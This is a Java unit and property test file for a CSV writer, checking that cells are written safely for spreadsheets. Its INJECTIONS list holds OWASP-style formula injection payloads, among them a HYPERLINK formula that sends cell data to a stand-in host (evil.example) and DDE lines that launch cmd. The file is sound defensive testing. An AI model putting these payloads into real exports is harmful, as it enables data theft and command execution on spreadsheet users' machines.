package org.p2c.support.csv;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.io.IOException;
import java.io.StringReader;
import java.math.BigDecimal;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

class CsvWriterTest {

    /** Payloads from OWASP's CSV injection page and their variants, as a pledger could type them. */
    static final List<String> INJECTIONS = List.of(
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for details\")",
            "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "=cmd|' /C notepad'!'A1'", "\t=1+1", "\r=1+1", "=1+1\n",
            "\"=1+1\"", "=\"a\",\"b\"", "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")", "-", "=", "@", "+");

    @ParameterizedTest
    @ValueSource(ints = {0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18})
    void noInjectionPayloadOpensAsAFormulaAndItsTextSurvives(int payload) throws IOException {
        String text = INJECTIONS.get(payload);
        CSVRecord row = writtenAndRead(List.of("name", "note"), List.of("École \"Num\u00e9rique\", Phnom Penh", text));
        assertThat(row.get(0)).isEqualTo("École \"Num\u00e9rique\", Phnom Penh");
        // A payload that starts a formula is kept behind a quote; one that does not (it opens with '"') is kept as it is.
        assertThat(row.get(1)).isEqualTo("=+-@\t\r".indexOf(text.charAt(0)) >= 0 ? "'" + text : text);
        assertThat("=+-@\t\r").doesNotContain(row.get(1).substring(0, 1));
    }

    @Property(tries = 2000)
    void anyTextCellReadsBackAsItsTextAndNeverStartsAFormula(@ForAll("cells") String text) throws IOException {
        String read = writtenAndRead(List.of("cell"), List.of(text)).get(0);
        boolean plainNumber = text.matches("-?[0-9]+(\\.[0-9]+)?");
        boolean formulaStart = !text.isEmpty() && "=+-@\t\r".indexOf(text.charAt(0)) >= 0;
        assertThat(read).isEqualTo(formulaStart && !plainNumber ? "'" + text : text);
        if (!plainNumber && !read.isEmpty()) {
            assertThat("=+-@\t\r").doesNotContain(read.substring(0, 1));
        }
    }

    @Test
    void numbersStayNumbersInPlainNotation() throws IOException {
        CSVRecord row = writtenAndRead(List.of("a", "b", "c", "d", "e", "f", "g"),
                List.of(new BigDecimal("7E+1"), new BigDecimal("1500.00"), -12, 2.5e20, Double.NaN, "-12.5", 70L));
        assertThat(row.toList()).containsExactly("70", "1500.00", "-12", "250000000000000000000", "", "-12.5", "70");
    }

    @Test
    void severalValuesShareACellJoinedBySemicolons() throws IOException {
        assertThat(writtenAndRead(List.of("countries"), List.of(List.of("KHM", "LAO"))).get(0)).isEqualTo("KHM;LAO");
        assertThat(writtenAndRead(List.of("notes"), List.of(List.of("=1+1", "x"))).get(0)).isEqualTo("'=1+1;x");
    }

    @Test
    void forExcelTheFileStartsWithAByteOrderMark() {
        StringBuilder out = new StringBuilder();
        CsvWriter.of(out, List.of("name"), true).row(List.of("Ministère"));
        assertThat(out.toString()).startsWith("\uFEFFname\r\n").endsWith("Ministère\r\n");
    }

    @Provide
    Arbitrary<String> cells() {
        Arbitrary<String> anyText = Arbitraries.strings().withChars("=+-@\t\r\n\",;' aZé0123456789.()|!").ofMaxLength(12);
        return Arbitraries.oneOf(anyText, Arbitraries.of(INJECTIONS),
                Arbitraries.bigDecimals().ofScale(2).map(BigDecimal::toPlainString));
    }

    private static CSVRecord writtenAndRead(List<String> header, List<?> values) throws IOException {
        StringBuilder out = new StringBuilder();
        CsvWriter writer = CsvWriter.of(out, header);
        writer.row(values);
        writer.flush();
        try (CSVParser parser = CSVParser.parse(new StringReader(out.toString()),
                CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get())) {
            List<CSVRecord> rows = parser.getRecords();
            assertThat(rows).hasSize(1);
            assertThat(parser.getHeaderNames()).isEqualTo(header);
            return rows.get(0);
        }
    }
}
